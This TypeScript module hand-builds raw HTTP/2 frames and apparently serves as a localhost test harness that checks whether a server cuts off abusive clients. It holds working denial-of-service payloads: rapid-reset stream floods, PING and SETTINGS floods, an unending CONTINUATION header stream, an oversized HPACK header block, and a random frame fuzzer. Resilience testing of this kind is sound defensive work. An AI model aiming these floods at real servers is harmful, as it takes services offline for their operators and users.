/** HTTP/2 by hand (RFC 9113): what no well-meaning client sends. */
import { connect, type TLSSocket } from 'node:tls';

const types = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  window: 8,
  continuation: 9,
};
const endStream = 1;
const endHeaders = 4;

function frame(type: keyof typeof types, flags: number, stream: number, content: Uint8Array = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(content.byteLength, 0, 3);
  head.writeUInt8(types[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, content]);
}

const text = (value: string) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);

/** A request for a path, its headers as HPACK has them without any compression (RFC 7541). */
function fields(host: string, path: string) {
  return Buffer.concat([Buffer.of(0x82, 0x87, 0x04), text(path), Buffer.of(0x01), text(host)]);
}

/** As many requests as a connection may have open at once, and that their answers may be as long as they like. */
export function manyRequests(host: string, path: string): Buffer {
  const windows = [
    frame('settings', 0, 0, Buffer.of(0, 4, 0x7f, 0xff, 0xff, 0xff)),
    frame('window', 0, 0, Buffer.of(0x7f, 0, 0, 0)),
  ];
  const requests = Array.from({ length: 100 }, (_, index) =>
    frame('headers', endStream | endHeaders, 2 * index + 1, fields(host, path)),
  );
  return Buffer.concat([...windows, ...requests]);
}

const cancel = Buffer.of(0, 0, 0, 8);

/** That its sender will open no further stream. */
export const farewell = frame('goaway', 0, 0, Buffer.alloc(8));

/** Attacks, each a piece of what is sent again and again. */
export const abuseCount: Record<string, (host: string, round: number) => Buffer> = {
  'requests that are given up at once': (host, round) => {
    const pairs = Array.from({ length: 50 }, (_, index) => {
      const stream = 2 * (50 * round + index) + 1;
      return [frame('headers', endStream | endHeaders, stream, fields(host, '/')), frame('reset', 0, stream, cancel)];
    });
    return Buffer.concat(pairs.flat());
  },
  'requests that are given up a moment later': (host, round) => {
    const streams = Array.from({ length: 50 }, (_, index) => 2 * (50 * (round >> 1) + index) + 1);
    const start = (stream: number) => frame('headers', endStream | endHeaders, stream, fields(host, '/'));
    return Buffer.concat(
      streams.map((stream) => (round % 2 === 0 ? start(stream) : frame('reset', 0, stream, cancel))),
    );
  },
  pings: () => Buffer.concat(Array.from({ length: 200 }, () => frame('ping', 0, 0, Buffer.alloc(8)))),
  settings: () => Buffer.concat(Array.from({ length: 200 }, () => frame('settings', 0, 0))),
  'headers without an end': (host, round) => {
    const more = Buffer.concat([Buffer.of(0x00, 0x01, 0x61, 0x7f, 0x81, 0x07), Buffer.alloc(262, 'x')]);
    const start = round === 0 ? [frame('headers', endStream, 1, fields(host, '/'))] : [];
    return Buffer.concat([...start, ...Array.from({ length: 50 }, () => frame('continuation', 0, 1, more))]);
  },
  'headers that grow as they are read': (host, round) => {
    const name = Buffer.concat([Buffer.of(0x40, 0x01, 0x61, 0x7f, 0x81, 0x1d), Buffer.alloc(3840, 'x')]);
    const again = Buffer.alloc(10_000, 0xbe);
    const block = Buffer.concat([fields(host, '/'), name, again]);
    return frame('headers', endStream | endHeaders, 2 * round + 1, block);
  },
};

/** @returns a whole number below the limit */
type Dice = (limit: number) => number;

const shapes = ['application/json', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'];

/** A header that no table has. */
const header = (name: string, value: string) => Buffer.concat([Buffer.of(0x00), text(name), text(value)]);

function randomFields(host: string, paths: string[], isPost: boolean, dice: Dice) {
  const body = [
    header('content-type', shapes[dice(shapes.length)] ?? ''),
    ...(dice(2) ? [header('content-length', String(dice(200_000)))] : []),
    ...(dice(2) ? [] : [header('expect', '100-continue')]),
  ];
  const requested = fields(host, paths[dice(paths.length)] ?? '/');
  if (!isPost) return requested;
  return Buffer.concat([Buffer.of(0x83), requested.subarray(1), ...body]);
}

/**
 * Frames in an order that no client has: requests that are given up, go on after that, or never end.
 *
 * @returns what makes the next piece
 */
export function randomFrames(host: string, paths: string[], dice: Dice): () => Buffer {
  let next = 1;
  let open: number[] = [];
  const max = dice(2) ? 4 : 40;
  const one = (): Buffer => {
    const stream = open[dice(open.length)] ?? next;
    const kind = dice(10);
    if (kind < 4) {
      const isPost = dice(2) === 0;
      const ends = !isPost && dice(3) > 0 ? endStream : 0;
      const started = frame('headers', ends | endHeaders, next, randomFields(host, paths, isPost, dice));
      open = [...open.slice(-80), next];
      next += 2;
      return started;
    }
    if (kind < 7)
      return frame('data', dice(4) ? 0 : endStream, stream, Buffer.alloc(dice(2) ? dice(200) : dice(16_384), 'a=1&'));
    if (kind === 7) {
      open = open.filter((other) => other !== stream);
      return frame('reset', 0, stream, Buffer.of(0, 0, 0, dice(14)));
    }
    if (kind === 8) return frame('window', 0, dice(2) ? 0 : stream, Buffer.of(0, 0, dice(256), 1 + dice(255)));
    if (dice(8) === 0) return farewell;
    if (dice(30) === 0) return frame('priority', 0, next + 2, Buffer.of(0, 0, 0, 0, 16));
    return dice(20) === 0 ? frame('ping', 0, 0, Buffer.alloc(8)) : Buffer.of();
  };
  return () => Buffer.concat(Array.from({ length: 1 + dice(max) }, one));
}

/** A connection that has said that it speaks HTTP/2. @param localAddress from which it comes */
export function openHttp2(port: number, servername: string, localAddress = '127.0.0.1'): Promise<TLSSocket> {
  return new Promise((done, fail) => {
    const at = { host: '127.0.0.1', port, localAddress, servername, ALPNProtocols: ['h2'], rejectUnauthorized: false };
    const socket = connect(at, () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame('settings', 0, 0));
      done(socket);
    }).on('error', fail);
  });
}

/**
 * Asks for a path.
 *
 * @param before what is sent in the same breath
 * @returns the frames of the answer's content: how long each is, and whether it says that it is the last
 */
export async function contentFrames(socket: TLSSocket, host: string, path: string, before = Buffer.of()) {
  socket.write(Buffer.concat([before, frame('headers', endStream | endHeaders, 1, fields(host, path))]));
  const frames: { length: number; isLast: boolean }[] = [];
  let pending = Buffer.alloc(0);
  for await (const chunk of socket) {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
      const length = pending.readUIntBE(0, 3);
      if (pending[3] === types.data) frames.push({ length, isLast: ((pending[4] ?? 0) & endStream) !== 0 });
      pending = pending.subarray(9 + length);
    }
    if (frames.at(-1)?.isLast) break;
  }
  return frames;
}

/**
 * Attacks a connection until it is taken away.
 *
 * @param timeoutMs in milliseconds
 * @returns how many pieces were sent; null when no one took it away
 */
export async function abuse(
  socket: TLSSocket,
  piece: (round: number) => Buffer,
  timeoutMs: number,
): Promise<number | null> {
  let isLost = false;
  socket.on('close', () => {
    isLost = true;
  });
  socket.on('error', () => undefined).resume();
  const deadline = performance.now() + timeoutMs;
  for (let round = 0; performance.now() < deadline; round += 1) {
    if (isLost) return round;
    if (!socket.write(piece(round))) await new Promise((next) => socket.once('drain', next).once('close', next));
    await new Promise((next) => setTimeout(next, 5));
  }
  socket.destroy();
  return null;
}
